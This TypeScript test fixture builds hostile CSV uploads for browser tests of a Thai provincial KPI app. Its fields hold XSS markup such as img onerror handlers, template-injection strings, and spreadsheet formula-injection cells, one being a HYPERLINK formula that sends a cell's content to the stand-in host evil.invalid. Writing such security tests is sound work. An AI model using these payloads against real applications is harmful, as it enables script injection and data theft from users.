/**
 * A hostile framework folder and results file for issue 7's browser tests: every text a user can give holds
 * markup whose handler would record that it ran (`__xss.push(n)`: n says which field leaked), template syntax,
 * text that Excel would run as a formula, or very long text. The framework is otherwise sound (ฉะเชิงเทรา,
 * round 2 of FY2565), so that it scores and every view shows it.
 */

/** Markup that runs `__xss.push(n)` if it is ever parsed as HTML. */
export const xss = (n: number): string => `<img src=x onerror=__xss.push(${n})>`;

export const FRAMEWORK_ID = 'h7<img src=x onerror=__xss.push(1)>';
export const FRAMEWORK_NAME = `${xss(2)} {{7*7}} กรอบทดสอบความปลอดภัย`;
/** KPI ids that start like formulas (for the CSV exports) and carry markup. */
export const K1 = '=1+2';
export const K2 = '@K2<b>';
export const K1_NAME = `${xss(5)} {{constructor.constructor('__xss.push(6)')()}}`;
export const K2_NAME = `${'ยาวมาก'.repeat(400)} ${xss(10)}`;
export const GROUP = `-ทีม${xss(7)}`;
/** The best level of K1: a level label is shown in chips, charts' tooltips and exports. */
export const TOP_LEVEL = `+5${xss(11)}`;
export const CRITERION = `${xss(12)} ผลงานครบ {{7*7}}`;
export const FORMULA_CRITERION = '=HYPERLINK("http://evil.invalid/?x="&A1,"คลิก")';
export const NOTE = xss(3);
export const SOURCE = xss(4);
export const UNIT_LABEL = `ร้อยละ${xss(8)}`;
export const HOW_TO_REPORT = xss(9);
export const RESULTS_FILE = `=ผล${xss(13)}.csv`;
export const CORRECTED_FILE = `-แก้ไข${xss(15)}.csv`;
/** A misspelt district with markup: the app suggests บางคล้า, and the alias keeps the name as written. */
export const ALIAS_NAME = 'บางคล่า<i>';
export const BAD_KPI_CELL = '<script>__xss.push(14)</script>';
export const BAD_VALUE_CELL = '=HYPERLINK("http://evil.invalid")';

export const DISTRICTS = [
  'เมืองฉะเชิงเทรา',
  'บางคล้า',
  'บางน้ำเปรี้ยว',
  'บางปะกง',
  'บ้านโพธิ์',
  'พนมสารคาม',
  'ราชสาส์น',
  'สนามชัยเขต',
  'แปลงยาว',
  'ท่าตะเกียบ',
  'คลองเขื่อน'
];
export const MONTHS = ['2565-07', '2565-08', '2565-09'];

function csv(rows: readonly (readonly string[])[]): string {
  const cell = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
  return rows.map((row) => row.map(cell).join(',')).join('\r\n') + '\r\n';
}

export interface UploadFile {
  name: string;
  mimeType: string;
  buffer: Buffer;
}

const file = (name: string, text: string): UploadFile => ({
  name,
  mimeType: 'text/csv',
  buffer: Buffer.from(text, 'utf8')
});

export function hostileFramework(): UploadFile[] {
  const levelsK1 = [TOP_LEVEL, '4', '3', '2', '1'].map((level, i) => [
    K1,
    level,
    String(5 - i),
    '>=',
    String(100 - 20 * i),
    '',
    '',
    i === 0 ? CRITERION : i === 1 ? FORMULA_CRITERION : `เกณฑ์ ${level}`
  ]);
  // K2 counts a loss: every threshold is negative, and its measured values are too.
  const levelsK2 = ['5', '4', '3', '2'].map((level, i) => [
    K2,
    level,
    level,
    '>=',
    String(-10 - 10 * i),
    '',
    '',
    `-${level} ${xss(16)}`
  ]);
  levelsK2.push([K2, '1', '1', 'any', '', '', '', '@ทุกค่า']);
  return [
    file(
      'framework.csv',
      csv([
        ['id', 'name', 'province', 'fiscal_year', 'period', 'notes', 'source'],
        [FRAMEWORK_ID, FRAMEWORK_NAME, 'ฉะเชิงเทรา', '2565', 'R2', NOTE, SOURCE]
      ])
    ),
    file(
      'kpis.csv',
      csv([
        [
          'kpi',
          'name',
          'group',
          'weight',
          'scale',
          'measure',
          'aggregate',
          'interpolate',
          'target_level',
          'parent',
          'combine',
          'unit_label',
          'how_to_report'
        ],
        [K1, K1_NAME, GROUP, '60', '1-5', 'value', 'last', 'false', '4', '', '', UNIT_LABEL, HOW_TO_REPORT],
        [K2, K2_NAME, GROUP, '40', '1-5', 'value', 'last', 'false', '', '', '', '', '']
      ])
    ),
    file(
      'levels.csv',
      csv([['kpi', 'level', 'points', 'op', 'value', 'value2', 'unit', 'label'], ...levelsK1, ...levelsK2])
    )
  ];
}

/** K1's and K2's value of a district and month in the hostile results. */
export function valueOf(kpi: string, d: number, m: number): number {
  return kpi === K1 ? 15 + ((d * 37 + m * 23) % 100) : -(3 + ((d * 13 + m * 7) % 45)) - 0.5;
}

export function hostileResults(): UploadFile {
  const rows: string[][] = [['อำเภอ', 'ตัวชี้วัด', 'เดือน', 'ผลการดำเนินงาน']];
  DISTRICTS.forEach((district, d) =>
    MONTHS.forEach((month, m) => {
      rows.push([district, K1, month, String(valueOf(K1, d, m))]);
      rows.push([district, K2, month, String(valueOf(K2, d, m))]);
    })
  );
  rows.push([ALIAS_NAME, K1, '2565-06', '50']);
  rows.push(['บางคล้า', BAD_KPI_CELL, '2565-09', '1']);
  rows.push(['บางคล้า', K1, '2565-08', BAD_VALUE_CELL]);
  rows.push(['{{7*7}}', K1, '2565-09', '1']);
  return file(RESULTS_FILE, csv(rows));
}

/** A correction: every district's K2 of September gets worse by 10 (changed values to list and download). */
export function correctedResults(): UploadFile {
  const rows: string[][] = [['อำเภอ', 'ตัวชี้วัด', 'เดือน', 'ผลการดำเนินงาน']];
  DISTRICTS.forEach((district, d) => rows.push([district, K2, '2565-09', String(valueOf(K2, d, 2) - 10)]));
  return file(CORRECTED_FILE, csv(rows));
}

/**
 * The cells of a CSV file as a spreadsheet reads them (RFC 4180, after the BOM), so that a test sees what
 * Excel would see.
 */
export function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = text.startsWith('\uFEFF') ? 1 : 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else cell += text[i++];
      }
    } else
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') cell += text[i++];
    row.push(cell);
    if (text[i] === ',') i++;
    else {
      if (text[i] === '\r') i++;
      if (text[i] === '\n') i++;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

/** Would Excel, LibreOffice or Google Sheets take this cell for a formula? */
export function looksLikeFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
}
